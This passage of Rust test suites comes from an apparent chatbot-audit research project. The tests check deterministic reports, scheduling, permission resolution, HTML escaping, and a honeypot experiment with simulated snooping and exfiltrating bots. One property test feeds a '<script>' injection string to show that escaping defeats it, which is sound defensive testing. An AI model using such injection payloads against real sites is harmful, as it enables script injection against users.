    // Daemon with an aggressive 4-frame slice: the same audit parks and
    // resumes from its journal many times.
    let daemon = FleetDaemon::new(FleetDaemonConfig {
        batch_slice_frames: Some(4),
        ..daemon_config(1)
    });
    let handle = daemon
        .submit(
            JobSpec::builder("acme")
                .lane_named("batch")
                .build()
                .expect("valid spec"),
            job(2022, 0),
        )
        .expect("admitted");
    daemon.run_until(2_000);
    let sliced = daemon
        .resolve(handle)
        .expect("sliced audit settles")
        .report
        .expect("sliced audit completes");
    assert!(
        daemon.obs().counter_value("sched.parked") >= 2,
        "a 4-frame slice must park the audit repeatedly"
    );
    assert_eq!(
        serde_json::to_string(&sliced).unwrap(),
        serde_json::to_string(&reference).unwrap(),
        "parked-and-resumed audit diverged from the unsliced drain"
    );
}
