//! Helper: dump the canonical report for fixed seeds so two builds can be
//! diffed byte-for-byte. Ignored by default; run with
//! `CANON_OUT=<dir> cargo test --test canonical_dump -- --ignored`.

use chatbot_audit::{AuditConfig, AuditPipeline};
use synth::{build_ecosystem, EcosystemConfig};

#[test]
#[ignore = "manual baseline-diff helper; needs CANON_OUT"]
fn dump_canonical_reports() {
    let dir = std::env::var("CANON_OUT").expect("set CANON_OUT to an output directory");
    for seed in [2022u64, 7] {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(300, seed));
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 15,
            ..AuditConfig::default()
        });
        let json = pipeline.run_full(&eco).canonical_json();
        std::fs::write(format!("{dir}/canon_{seed}.json"), json).expect("write canonical dump");
    }
}
