//! The deterministic-trace regression tier.
//!
//! The obs layer's contract mirrors the canonical-report contract one level
//! deeper: the `JsonRecorder`'s canonical trace — the merged span tree of a
//! whole audit (crawl pages, analysis workers, honeypot guilds) — is
//! byte-identical across worker counts for a given seed. Per-worker spans
//! are unkeyed siblings that merge (numeric fields summed), every other
//! span is keyed by a data-derived index, and nothing scheduling-variant
//! (timestamps, span counts, cache splits) appears in the dump. A future
//! change that leaks worker identity into the trace fails this suite.

use chatbot_audit::{AuditConfig, AuditPipeline};
use obs::{JsonRecorder, Obs};
use std::sync::Arc;
use synth::{build_ecosystem, EcosystemConfig};

const BOTS: usize = 120;

fn config(workers: usize) -> AuditConfig {
    let mut config = AuditConfig {
        honeypot_sample: 15,
        ..AuditConfig::default()
    };
    config.workers = workers;
    config.crawl.workers = workers;
    config.honeypot.workers = workers;
    config
}

/// Run the full pipeline (crawl + analysis + honeypot) with a JsonRecorder
/// fed by the world's virtual clock and return the canonical trace.
fn trace(seed: u64, workers: usize) -> String {
    let eco = build_ecosystem(&EcosystemConfig::test_scale(BOTS, seed));
    let recorder = Arc::new(JsonRecorder::new());
    let obs = Obs::with_recorder(recorder.clone(), Arc::new(eco.net.clock().clone()));
    let pipeline = AuditPipeline::with_obs(config(workers), obs);
    let report = pipeline.run_full(&eco);
    assert_eq!(report.bots.len(), BOTS);
    recorder.canonical_trace()
}

#[test]
fn trace_is_byte_identical_across_worker_counts_for_seed_2022() {
    let serial = trace(2022, 1);
    for name in ["static", "dynamic", "crawl", "analysis", "honeypot"] {
        assert!(
            serial.contains(&format!("\"name\":\"{name}\"")),
            "trace must contain the {name} span"
        );
    }
    assert_eq!(trace(2022, 4), serial, "workers=4 diverged from serial");
}

#[test]
fn trace_is_byte_identical_across_worker_counts_for_seed_7() {
    let serial = trace(7, 1);
    assert_eq!(trace(7, 4), serial, "workers=4 diverged from serial");
}

#[test]
fn different_seeds_produce_different_traces() {
    // The trace carries real measurement content (per-page link counts,
    // per-bot analysis outcomes), so distinct worlds must not collide.
    assert_ne!(trace(2022, 1), trace(7, 1));
}

#[test]
fn resumable_runs_trace_the_same_static_tree_shape() {
    // The journaled pipeline opens the same root spans; its trace is
    // deterministic across worker counts too (replay spans are keyed by
    // unit index, never by worker).
    let resumable_trace = |workers: usize| {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(BOTS, 2022));
        let recorder = Arc::new(JsonRecorder::new());
        let obs = Obs::with_recorder(recorder.clone(), Arc::new(eco.net.clock().clone()));
        let pipeline = AuditPipeline::with_obs(config(workers), obs);
        pipeline
            .run_resumable(&eco, &chatbot_audit::StoreConfig::in_memory(), 2022)
            .expect("resumable run completes");
        recorder.canonical_trace()
    };
    let serial = resumable_trace(1);
    assert!(serial.contains("\"name\":\"units\""));
    assert_eq!(resumable_trace(4), serial, "workers=4 diverged from serial");
}
