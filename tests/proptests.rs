//! Property-based tests over the core data structures and invariants,
//! spanning crates.

use discord_sim::channel::{Channel, ChannelId, Overwrite, OverwriteTarget};
use discord_sim::guild::{Guild, GuildId, GuildVisibility, Member};
use discord_sim::role::{Role, RoleId};
use discord_sim::snowflake::Snowflake;
use discord_sim::user::UserId;
use discord_sim::Permissions;
use htmlsim::build::el;
use htmlsim::render::{render_document, render_to_string};
use htmlsim::{parse_document, Document, Node};
use netsim::clock::SimInstant;
use netsim::http::Url;
use netsim::ratelimit::TokenBucket;
use proptest::prelude::*;

// ---------- netsim: URL grammar ---------------------------------------

fn url_host() -> impl Strategy<Value = String> {
    "[a-z][a-z0-9-]{0,10}(\\.[a-z]{2,5}){1,2}"
}

fn url_path() -> impl Strategy<Value = String> {
    prop::collection::vec("[a-zA-Z0-9_.-]{1,8}", 0..4).prop_map(|segs| {
        if segs.is_empty() {
            "/".to_string()
        } else {
            format!("/{}", segs.join("/"))
        }
    })
}

fn query_pairs() -> impl Strategy<Value = Vec<(String, String)>> {
    prop::collection::vec(("[a-z_]{1,8}", "[ -~&&[^#&=%+]]{0,12}"), 0..4)
}

proptest! {
    #[test]
    fn url_roundtrips_through_display_and_parse(
        host in url_host(),
        path in url_path(),
        pairs in query_pairs(),
    ) {
        let mut url = Url::https(&host, &path);
        for (k, v) in &pairs {
            url = url.with_query(k, v);
        }
        let reparsed = Url::parse(&url.to_string()).expect("display emits parseable urls");
        prop_assert_eq!(url, reparsed);
    }

    #[test]
    fn url_parse_never_panics(s in "\\PC{0,60}") {
        let _ = Url::parse(&s);
    }
}

// ---------- discord-sim: permission algebra -----------------------------

fn permission_sets() -> impl Strategy<Value = Permissions> {
    any::<u64>().prop_map(|bits| Permissions(bits & Permissions::ALL_KNOWN.0))
}

proptest! {
    #[test]
    fn permission_set_algebra(a in permission_sets(), b in permission_sets()) {
        // Union is commutative and contains both operands.
        prop_assert_eq!(a.union(b), b.union(a));
        prop_assert!(a.union(b).contains(a));
        prop_assert!(a.union(b).contains(b));
        // Difference removes exactly b.
        prop_assert!(!a.difference(b).intersects(b) || b.is_empty());
        prop_assert_eq!(a.difference(b).union(a & b), a);
        // names() round-trips through by_name.
        for name in a.names() {
            let bit = Permissions::by_name(name).expect("canonical name");
            prop_assert!(a.contains(bit));
        }
        // Invite-field encoding is lossless.
        prop_assert_eq!(Permissions::from_invite_field(&a.to_invite_field()), Some(a));
    }

    #[test]
    fn snowflakes_order_by_time(ms_a in 0u64..1_000_000, ms_b in 0u64..1_000_000) {
        let a = Snowflake((ms_a << 22) | 5);
        let b = Snowflake((ms_b << 22) | 5);
        prop_assert_eq!(a < b, ms_a < ms_b);
        prop_assert_eq!(a.timestamp().as_millis(), ms_a);
    }
}

// ---------- discord-sim: resolution invariants ---------------------------

fn overwrites() -> impl Strategy<Value = Vec<(bool, Permissions, Permissions)>> {
    // (targets_everyone_role, allow, deny)
    prop::collection::vec((any::<bool>(), permission_sets(), permission_sets()), 0..6)
}

proptest! {
    #[test]
    fn admin_always_resolves_to_all(ows in overwrites()) {
        let owner = UserId(Snowflake(1));
        let admin_user = UserId(Snowflake(2));
        let everyone = RoleId(Snowflake(10));
        let admin_role = RoleId(Snowflake(11));
        let channel = ChannelId(Snowflake(20));
        let mut guild = Guild::new(GuildId(Snowflake(9)), "p", owner, everyone, GuildVisibility::Private);
        guild.roles.insert(admin_role, Role {
            id: admin_role,
            name: "Admin".into(),
            position: 5,
            permissions: Permissions::ADMINISTRATOR,
        });
        guild.members.insert(admin_user, Member { user: admin_user, roles: vec![admin_role], nickname: None });
        let mut ch = Channel::text(channel, "locked");
        for (on_everyone, allow, deny) in ows {
            let target = if on_everyone {
                OverwriteTarget::Role(everyone)
            } else {
                OverwriteTarget::Member(admin_user)
            };
            ch.overwrites.push(Overwrite { target, allow, deny });
        }
        guild.channels.insert(channel, ch);
        // No combination of overwrites dents an administrator.
        let perms = discord_sim::resolve::channel_permissions(&guild, channel, admin_user).expect("member");
        prop_assert_eq!(perms, Permissions::ALL_KNOWN);
    }

    #[test]
    fn member_overwrite_is_final(base_allow in permission_sets(), deny in permission_sets()) {
        let owner = UserId(Snowflake(1));
        let user = UserId(Snowflake(2));
        let everyone = RoleId(Snowflake(10));
        let channel = ChannelId(Snowflake(20));
        let mut guild = Guild::new(GuildId(Snowflake(9)), "p", owner, everyone, GuildVisibility::Private);
        guild.members.insert(user, Member { user, roles: vec![], nickname: None });
        let mut ch = Channel::text(channel, "c");
        ch.overwrites.push(Overwrite {
            target: OverwriteTarget::Member(user),
            allow: base_allow,
            deny,
        });
        guild.channels.insert(channel, ch);
        let perms = discord_sim::resolve::channel_permissions(&guild, channel, user).expect("member");
        // Everything denied by the member overwrite is gone unless also in
        // its own allow half (allow wins within one overwrite because allow
        // is applied after deny).
        let lost = deny.difference(base_allow);
        prop_assert!(!perms.intersects(lost));
        // Everything allowed is present.
        prop_assert!(perms.contains(base_allow));
    }
}

// ---------- htmlsim: build → render → parse round-trip --------------------

fn text_content() -> impl Strategy<Value = String> {
    // Visible ASCII without raw angle brackets or ampersands handled by
    // escaping anyway — include them to prove escaping works.
    "[ -~]{0,20}"
}

fn arb_tree() -> impl Strategy<Value = Node> {
    let leaf = prop_oneof![
        text_content().prop_map(Node::text),
        "[a-z]{1,8}".prop_map(|t| el(&t).build()),
    ];
    leaf.prop_recursive(3, 24, 4, |inner| {
        (
            "[a-z]{1,8}",
            prop::collection::vec(inner, 0..4),
            prop::collection::vec(("[a-z]{1,6}", "[ -~&&[^\"]]{0,10}"), 0..3),
        )
            .prop_map(|(tag, children, attrs)| {
                let mut b = el(&tag);
                for (k, v) in attrs {
                    b = b.attr(&k, &v);
                }
                for c in children {
                    b = b.node(c);
                }
                b.build()
            })
    })
}

/// Normalize a tree the way parsing normalizes it: drop empty text nodes,
/// merge adjacent text runs (our parser produces one text node per run).
fn normalize(node: &Node) -> Node {
    match node {
        Node::Text(t) => Node::text(t.clone()),
        Node::Element {
            tag,
            attrs,
            children,
        } => {
            let mut out: Vec<Node> = Vec::new();
            for c in children {
                let c = normalize(c);
                match (&c, out.last_mut()) {
                    (Node::Text(t), _) if t.is_empty() => {}
                    (Node::Text(t), Some(Node::Text(prev))) => prev.push_str(t),
                    _ => out.push(c),
                }
            }
            Node::Element {
                tag: tag.clone(),
                attrs: attrs.clone(),
                children: out,
            }
        }
    }
}

/// Tags the renderer treats as void cannot carry children through a
/// round-trip; skip trees containing them.
fn contains_void(node: &Node) -> bool {
    const VOID: &[&str] = &["br", "hr", "img", "input", "link", "meta"];
    match node {
        Node::Text(_) => false,
        Node::Element { tag, children, .. } => {
            (VOID.contains(&tag.as_str()) && !children.is_empty())
                || children.iter().any(contains_void)
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]
    #[test]
    fn html_roundtrip(tree in arb_tree()) {
        prop_assume!(tree.tag().is_some());
        prop_assume!(!contains_void(&tree));
        let doc = Document::new(tree.clone());
        let html = render_document(&doc);
        let parsed = parse_document(&html).expect("rendered html parses");
        prop_assert_eq!(normalize(&parsed.root), normalize(&tree), "html: {}", html);
    }

    #[test]
    fn parser_never_panics_on_garbage(s in "\\PC{0,200}") {
        let _ = parse_document(&s);
    }

    #[test]
    fn escaping_defeats_injection(payload in "[ -~]{0,30}") {
        // Text content with markup characters must not create elements.
        let n = el("p").text(format!("<script>{payload}</script>")).build();
        let html = render_to_string(&n);
        if let Ok(doc) = parse_document(&html) {
            prop_assert_eq!(doc.root.element_count(), 1, "only the <p> itself: {}", html);
        }
    }
}

// ---------- netsim: token bucket invariants ------------------------------

proptest! {
    #[test]
    fn token_bucket_never_exceeds_rate(
        capacity in 1u32..20,
        rate in 0.1f64..50.0,
        requests in prop::collection::vec(0u64..2_000, 1..100),
    ) {
        let mut bucket = TokenBucket::new(capacity, rate, SimInstant::EPOCH);
        let mut t = 0u64;
        let mut admitted = 0u32;
        for gap in &requests {
            t += gap;
            if bucket.try_acquire(SimInstant::from_millis(t)).is_ok() {
                admitted += 1;
            }
        }
        // Admissions ≤ initial burst + refill over the elapsed window.
        let max = capacity as f64 + rate * t as f64 / 1000.0;
        prop_assert!(f64::from(admitted) <= max + 1.0, "admitted {admitted}, max {max}");
    }

    #[test]
    fn token_bucket_wait_suggestion_is_sufficient(
        capacity in 1u32..5,
        rate in 0.1f64..10.0,
    ) {
        let mut bucket = TokenBucket::new(capacity, rate, SimInstant::EPOCH);
        // Drain the burst.
        for _ in 0..capacity {
            prop_assert!(bucket.try_acquire(SimInstant::EPOCH).is_ok());
        }
        // The suggested wait always suffices.
        if let Err(wait) = bucket.try_acquire(SimInstant::EPOCH) {
            let later = SimInstant::from_millis(wait.as_millis());
            prop_assert!(bucket.try_acquire(later).is_ok());
        }
    }
}

// ---------- policy: classification invariants ----------------------------

proptest! {
    #[test]
    fn traceability_classification_is_monotone(body in "[ -~]{0,200}") {
        use policy::{analyze, KeywordOntology, PrivacyPolicy, Traceability};
        // Force substantiveness so we compare keyword coverage, not length.
        let text = format!("{body} placeholder words to make this document long enough to be substantive overall");
        let p = PrivacyPolicy::new("P", vec![text], false);
        let full = analyze(Some(&p), &[], &KeywordOntology::standard());
        let base = analyze(Some(&p), &[], &KeywordOntology::base_verbs_only());
        // The base ontology can never find MORE practices than the full one.
        prop_assert!(base.practices_found.len() <= full.practices_found.len());
        // And classification can only degrade toward Broken.
        let rank = |c: Traceability| match c {
            Traceability::Complete => 2,
            Traceability::Partial => 1,
            Traceability::Broken => 0,
        };
        prop_assert!(rank(base.classification) <= rank(full.classification));
    }
}
