//! The fleet-scheduler regression tier.
//!
//! Three contracts, mirroring `trace_determinism.rs` one layer up:
//!
//! 1. A multi-tenant, multi-epoch fleet run produces byte-identical
//!    canonical reports, delta reports, and `sched.*` trace at any worker
//!    count (pinned at 1 vs 4 for seeds 2022 and 7).
//! 2. An epoch-N+1 re-audit against a tenant's warm artifact pack
//!    re-analyzes *only* the drifted bots — asserted against the drift
//!    model's own ledger via the store's hit/miss counters — yet yields a
//!    report byte-identical to a cold full audit of the same epoch.
//! 3. Admission control rejects deterministically, surfacing the typed
//!    `ErrorKind::Saturated` with its pinned kind string.

use chatbot_audit::{Audit, AuditJob, ErrorKind, FleetConfig, FleetService};
use obs::{JsonRecorder, Obs};
use sched::{JobSpec, Lane, TenantRate};
use std::sync::Arc;
use store::MemBackend;
use synth::{build_ecosystem_at, DriftConfig, EcosystemConfig};

const BOTS: usize = 60;
const TENANTS: [&str; 3] = ["acme", "beta", "cyber"];

fn job(seed: u64, epoch: u32) -> AuditJob {
    Audit::builder()
        .scale(BOTS)
        .seed(seed)
        .honeypot_sample(6)
        .site_defenses(false)
        .drift(DriftConfig::default())
        .epoch(epoch)
        .into_job()
        .expect("valid job")
}

/// Run 3 tenants × 2 epochs through one fleet service and dump every
/// observable: reports, deltas, artifact hit counters, and the canonical
/// `sched.*` trace.
fn fleet_dump(seed: u64, workers: usize) -> (String, String) {
    let recorder = Arc::new(JsonRecorder::new());
    let clock = netsim::VirtualClock::new();
    let obs = Obs::with_recorder(recorder.clone(), Arc::new(clock.clone()));
    let service = FleetService::with_obs(
        FleetConfig {
            workers,
            ..FleetConfig::default()
        },
        Arc::new(MemBackend::new()),
        clock,
        obs,
    );

    let lanes = [Lane::Interactive, Lane::Standard, Lane::Batch];
    let mut dump = String::new();
    for epoch in 0..2u32 {
        for (i, tenant) in TENANTS.iter().enumerate() {
            service
                .submit(JobSpec::new(*tenant).lane(lanes[i]), job(seed, epoch))
                .expect("queue has room");
            service
                .clock()
                .advance(netsim::SimDuration::from_millis(25));
        }
        for outcome in service.run() {
            let report = outcome.report.expect("audit completes");
            dump.push_str(&format!(
                "tenant={} epoch={} wait={} hits={} misses={}\n",
                outcome.tenant,
                outcome.epoch,
                outcome.wait_ms,
                outcome.artifact_hits,
                outcome.artifact_misses,
            ));
            dump.push_str(&serde_json::to_string(&report).expect("report serializes"));
            dump.push('\n');
            if let Some(delta) = &outcome.delta {
                dump.push_str(&serde_json::to_string(delta).expect("delta serializes"));
                dump.push('\n');
            }
        }
    }
    (dump, recorder.canonical_trace())
}

#[test]
fn fleet_outputs_are_worker_count_independent_for_seed_2022() {
    let (serial_dump, serial_trace) = fleet_dump(2022, 1);
    assert!(
        serial_trace.contains("\"name\":\"sched.drain\""),
        "trace must contain the sched.drain span"
    );
    assert!(
        serial_trace.contains("\"name\":\"sched.job\""),
        "trace must contain keyed sched.job spans"
    );
    let (parallel_dump, parallel_trace) = fleet_dump(2022, 4);
    assert_eq!(parallel_dump, serial_dump, "workers=4 outputs diverged");
    assert_eq!(parallel_trace, serial_trace, "workers=4 trace diverged");
}

#[test]
fn fleet_outputs_are_worker_count_independent_for_seed_7() {
    let (serial_dump, serial_trace) = fleet_dump(7, 1);
    let (parallel_dump, parallel_trace) = fleet_dump(7, 4);
    assert_eq!(parallel_dump, serial_dump, "workers=4 outputs diverged");
    assert_eq!(parallel_trace, serial_trace, "workers=4 trace diverged");
}

#[test]
fn incremental_reaudit_reanalyzes_only_drifted_bots() {
    let seed = 2022;
    let drift = DriftConfig::default();

    // The drift model's own ledger: which bots changed in a crawl-visible
    // way at epoch 1.
    let eco_cfg = EcosystemConfig::test_scale(BOTS, seed);
    let (_, epochs) = build_ecosystem_at(&eco_cfg, &drift, 1);
    let drifted = epochs
        .iter()
        .find(|e| e.epoch == 1)
        .expect("epoch 1 ledger")
        .content_drifted();
    assert!(
        !drifted.is_empty() && drifted.len() < BOTS,
        "default drift must move some but not all of {BOTS} bots (moved {})",
        drifted.len()
    );

    let service = FleetService::new(FleetConfig::default());
    service
        .submit(JobSpec::new("acme"), job(seed, 0))
        .expect("submit epoch 0");
    let cold = service.run();
    assert_eq!(cold[0].artifact_hits, 0, "first audit has no warm pack");
    let cold_misses = cold[0].artifact_misses;
    assert!(cold_misses as usize >= BOTS, "cold run analyzes every bot");

    service
        .submit(JobSpec::new("acme"), job(seed, 1))
        .expect("submit epoch 1");
    let warm = service.run();
    let outcome = &warm[0];
    assert_eq!(
        outcome.artifact_misses as usize,
        drifted.len(),
        "re-audit must recompute exactly the drifted bots"
    );
    assert_eq!(
        outcome.artifact_hits as usize,
        BOTS - drifted.len(),
        "every undrifted bot must come from the warm pack"
    );
    let delta = outcome.delta.as_ref().expect("epoch 1 diffs epoch 0");
    assert_eq!(delta.drifted.len(), drifted.len());
    assert_eq!(delta.unchanged, BOTS - drifted.len());

    // And the incremental report is byte-identical to a cold full audit of
    // the same epoch on a fresh service.
    let fresh = FleetService::new(FleetConfig::default());
    fresh
        .submit(JobSpec::new("other"), job(seed, 1))
        .expect("submit cold epoch 1");
    let cold_epoch1 = fresh.run().remove(0).report.expect("cold audit completes");
    let warm_report = outcome.report.as_ref().expect("warm audit completes");
    assert_eq!(
        serde_json::to_string(warm_report).unwrap(),
        serde_json::to_string(&cold_epoch1).unwrap(),
        "incremental re-audit diverged from a cold audit of the same epoch"
    );
}

#[test]
fn saturation_rejects_deterministically_with_typed_kind() {
    let run_once = || {
        let service = FleetService::new(FleetConfig {
            queue_capacity: 2,
            ..FleetConfig::default()
        });
        let mut kinds = Vec::new();
        for tenant in ["a", "b", "c", "d"] {
            match service.submit(JobSpec::new(tenant), job(7, 0)) {
                Ok(id) => kinds.push(format!("ok:{id}")),
                Err(e) => {
                    assert_eq!(e.kind(), ErrorKind::Saturated);
                    assert_eq!(e.kind().as_str(), "saturated");
                    kinds.push(format!("rejected:{e}"));
                }
            }
        }
        kinds
    };
    let first = run_once();
    assert_eq!(
        first,
        vec![
            "ok:job-0".to_string(),
            "ok:job-1".to_string(),
            "rejected:scheduler saturated: queue full (capacity 2)".to_string(),
            "rejected:scheduler saturated: queue full (capacity 2)".to_string(),
        ]
    );
    assert_eq!(run_once(), first, "rejections must replay identically");
}

#[test]
fn rate_limits_reject_deterministically_on_the_virtual_clock() {
    let service = FleetService::new(FleetConfig {
        tenant_rate: Some(TenantRate::new(1, 2.0)),
        ..FleetConfig::default()
    });
    service
        .submit(JobSpec::new("acme"), job(7, 0))
        .expect("burst admits the first job");
    let err = service.submit(JobSpec::new("acme"), job(7, 0)).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Saturated);
    assert_eq!(
        err.to_string(),
        "scheduler saturated: tenant acme rate limited (retry in 500 ms)"
    );
    // Another tenant is unaffected; after the advertised wait the first
    // tenant is admitted again.
    service
        .submit(JobSpec::new("beta"), job(7, 0))
        .expect("distinct tenant has its own bucket");
    service
        .clock()
        .advance(netsim::SimDuration::from_millis(500));
    service
        .submit(JobSpec::new("acme"), job(7, 0))
        .expect("token refilled on the virtual clock");
}
