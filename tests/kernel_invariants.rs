//! Cross-crate invariants of the matchkit-backed analysis kernels.
//!
//! The traceability analyzer classifies every requested permission into a
//! data-noun via a precompiled trigger automaton; a permission that only
//! matched the generic fallback would silently weaken the disclosure check.
//! These tests pin the property at the boundary the pipeline actually
//! crosses: the names that [`InviteStatus::permission_names`] hands to
//! stage 2.

use crawler::invite::InviteStatus;
use discord_sim::Permissions;
use policy::{permission_data_noun, permission_data_noun_explicit};

/// An install page requesting the full 41-bit field.
fn all_permissions_invite() -> InviteStatus {
    InviteStatus::Valid {
        permissions: Permissions::ALL_KNOWN,
        scopes: vec!["bot".into()],
    }
}

#[test]
fn every_install_page_permission_classifies_explicitly() {
    let invite = all_permissions_invite();
    let names = invite.permission_names();
    assert_eq!(names.len(), 41, "ALL_KNOWN should request every named bit");
    for name in names {
        assert!(
            permission_data_noun_explicit(name).is_some(),
            "permission {name:?} fell through to the generic fallback arm"
        );
    }
}

#[test]
fn explicit_classification_agrees_with_the_public_noun() {
    for (_, name) in Permissions::NAMES {
        let explicit = permission_data_noun_explicit(name)
            .unwrap_or_else(|| panic!("{name:?} has no explicit trigger"));
        assert_eq!(
            explicit,
            permission_data_noun(name),
            "explicit trigger and public classifier disagree for {name:?}"
        );
    }
}

#[test]
fn non_valid_invites_request_nothing() {
    for status in [
        InviteStatus::MalformedLink,
        InviteStatus::Removed,
        InviteStatus::DeadLink,
        InviteStatus::TimedOut,
    ] {
        assert!(status.permission_names().is_empty());
    }
}

#[test]
fn unknown_permission_text_still_gets_the_data_fallback() {
    // Names outside the Discord field (future bits, scraping noise) must
    // keep the pre-automaton behaviour: no explicit class, generic noun.
    for name in ["teleport", "frobnicate", ""] {
        assert_eq!(permission_data_noun_explicit(name), None);
        assert_eq!(permission_data_noun(name), "data");
    }
}
