//! The runtime-enforcer experiment (extension of §6): rerun the honeypot
//! under the Slack/Teams-style runtime policy enforcer and show the
//! paper's Discord findings disappear — the snooper and exfiltrator lose
//! the access they abused, while legitimate command bots keep working.

use botsdk::{Bot, BotRunner, CommandAction, CommandBot, CommandSpec};
use chatbot_audit::{AuditConfig, AuditPipeline};
use discord_sim::oauth::InviteUrl;
use discord_sim::{GuildVisibility, Permissions, PlatformProfile, RuntimePolicy};
use synth::{build_ecosystem, EcosystemConfig};

fn eco_with_misbehavers(seed: u64) -> synth::Ecosystem {
    build_ecosystem(&EcosystemConfig {
        num_bots: 200,
        seed,
        num_snoopers: 1,
        num_exfiltrators: 1,
        captcha_every: None,
        rate_limit: None,
        email_wall_after_page: None,
        ..EcosystemConfig::default()
    })
}

#[test]
fn discord_model_detects_misbehavers() {
    let eco = eco_with_misbehavers(61);
    assert_eq!(eco.platform.runtime_policy(), RuntimePolicy::Unenforced);
    let pipeline = AuditPipeline::new(AuditConfig {
        honeypot_sample: 30,
        ..AuditConfig::default()
    });
    let report = pipeline.run_honeypot(&eco);
    assert_eq!(
        report.detections.len(),
        2,
        "snooper + exfiltrator caught: {:?}",
        report.detections
    );
}

#[test]
fn enforced_model_starves_the_same_misbehavers() {
    let eco = eco_with_misbehavers(61);
    eco.platform.set_runtime_policy(RuntimePolicy::Enforced);
    let pipeline = AuditPipeline::new(AuditConfig {
        honeypot_sample: 30,
        ..AuditConfig::default()
    });
    let report = pipeline.run_honeypot(&eco);
    // Identical world, identical bots, identical campaign — zero triggers:
    // the backends never *see* the canaries.
    assert!(
        report.triggers.is_empty(),
        "triggers: {:?}",
        report.triggers
    );
    assert!(report.detections.is_empty());
    // The campaign itself still ran at full size.
    assert_eq!(report.bots_tested, 30);
    assert_eq!(report.tokens_planted, 120);
}

#[test]
fn cross_platform_comparison() {
    // The paper's future work: apply the methodology to Slack, MS Teams,
    // and Telegram. The load-bearing difference is the runtime enforcer,
    // so the comparison reduces to profiles over the same world.
    let mut results = Vec::new();
    for profile in PlatformProfile::ALL {
        let eco = eco_with_misbehavers(63);
        eco.platform.set_runtime_policy(profile.runtime_policy());
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 30,
            ..AuditConfig::default()
        });
        let report = pipeline.run_honeypot(&eco);
        results.push((profile, report.detections.len(), report.backend_bytes_sent));
    }
    for (profile, detections, bytes) in &results {
        match profile {
            PlatformProfile::Discord => {
                assert_eq!(*detections, 2, "{profile:?}");
                assert!(*bytes > 0, "{profile:?}: misbehaving backends moved data");
            }
            _ => {
                assert_eq!(*detections, 0, "{profile:?}: enforcer starves misbehaviour");
            }
        }
    }
}

#[test]
fn enforcement_preserves_legitimate_command_flow() {
    // The enforcer must not break the product: a moderation bot still
    // receives and executes addressed commands.
    let clock = netsim::clock::VirtualClock::new();
    let net = netsim::Network::with_clock(62, clock.clone());
    let platform = discord_sim::Platform::new(clock);
    platform.set_runtime_policy(RuntimePolicy::Enforced);

    let owner = platform.register_user("owner#1", "o@x.y");
    let alice = platform.register_user("alice#2", "a@x.y");
    let guild = platform
        .create_guild(owner, "g", GuildVisibility::Public)
        .expect("owner");
    platform.join_guild(alice, guild, None).expect("public");
    let channel = platform.default_channel(guild).expect("channel");

    let app = platform
        .register_bot_application(owner, "ModBot")
        .expect("owner");
    let behavior = CommandBot::new(vec![CommandSpec::moderation(
        "kick",
        Permissions::KICK_MEMBERS,
        true,
        CommandAction::KickArg,
    )]);
    let bot = Bot::connect(
        platform.clone(),
        net,
        app.bot_user,
        "modbot",
        Box::new(behavior),
    )
    .expect("gateway");
    let mut runner = BotRunner::new();
    runner.add(bot);
    platform
        .install_bot(
            owner,
            guild,
            &InviteUrl::bot(
                app.client_id,
                Permissions::KICK_MEMBERS | Permissions::SEND_MESSAGES,
            ),
            true,
        )
        .expect("install");

    // Unaddressed chatter: nothing happens.
    platform
        .send_message(alice, channel, "nobody is talking to you, bot", vec![])
        .expect("chat");
    assert_eq!(
        runner.run_until_idle(),
        1,
        "only the install-time member event"
    );

    // The owner issues a kick; the bot acts.
    platform
        .send_message(owner, channel, &format!("!kick {}", alice.0.raw()), vec![])
        .expect("chat");
    runner.run_until_idle();
    assert!(
        platform.guild(guild).expect("g").member(alice).is_err(),
        "alice kicked via command"
    );
}
