//! Reproducibility: identical seeds must yield byte-identical measurement
//! outputs across the whole stack — the property EXPERIMENTS.md relies on.

use chatbot_audit::{
    figure3_distribution, table2_traceability, table3_code_analysis, AuditConfig, AuditPipeline,
};
use synth::{build_ecosystem, EcosystemConfig};

/// Run the whole pipeline (crawl + static stages + honeypot) with every
/// `workers` knob set to `workers`, against a fresh world, and return the
/// canonical JSON report.
fn canonical_run(seed: u64, workers: usize) -> String {
    let eco = build_ecosystem(&EcosystemConfig::test_scale(300, seed));
    let mut config = AuditConfig {
        honeypot_sample: 15,
        ..AuditConfig::default()
    };
    config.workers = workers;
    config.crawl.workers = workers;
    config.honeypot.workers = workers;
    let pipeline = AuditPipeline::new(config);
    pipeline.run_full(&eco).canonical_json()
}

fn full_run(seed: u64) -> (String, usize, usize) {
    let eco = build_ecosystem(&EcosystemConfig::test_scale(300, seed));
    let pipeline = AuditPipeline::new(AuditConfig {
        honeypot_sample: 15,
        ..AuditConfig::default()
    });
    let (bots, stats) = pipeline.run_static_stages(&eco.net);
    let campaign = pipeline.run_honeypot(&eco);

    let fig3 = format!("{:?}", figure3_distribution(&bots, 25));
    let t2 = table2_traceability(&bots);
    let t3 = table3_code_analysis(&bots);
    let digest = format!(
        "{fig3}|{t2:?}|{t3:?}|{}|{}|{:?}",
        stats.pages,
        stats.captchas_solved,
        campaign
            .detections
            .iter()
            .map(|d| (&d.bot_name, &d.token_kinds))
            .collect::<Vec<_>>()
    );
    (digest, bots.len(), campaign.triggers.len())
}

#[test]
fn same_seed_same_world_same_report() {
    let (a, bots_a, trig_a) = full_run(424242);
    let (b, bots_b, trig_b) = full_run(424242);
    assert_eq!(bots_a, bots_b);
    assert_eq!(trig_a, trig_b);
    assert_eq!(a, b, "full pipeline output must be bit-identical");
}

#[test]
fn different_seeds_differ() {
    let (a, _, _) = full_run(1);
    let (b, _, _) = full_run(2);
    assert_ne!(a, b, "different seeds produce different worlds");
}

#[test]
fn parallel_workers_match_serial_byte_for_byte() {
    // The parallel engine's contract: sharded crawl, the work-stealing
    // analysis pool, and concurrent honeypot campaigns must all produce
    // the same canonical JSON report as the serial pipeline.
    for seed in [2022u64, 424242] {
        let serial = canonical_run(seed, 1);
        let parallel = canonical_run(seed, 4);
        assert_eq!(
            serial, parallel,
            "seed {seed}: workers=4 diverged from workers=1"
        );
    }
}

#[test]
fn virtual_time_is_isolated_per_world() {
    // Two worlds advance their own clocks independently.
    let eco1 = build_ecosystem(&EcosystemConfig::test_scale(50, 3));
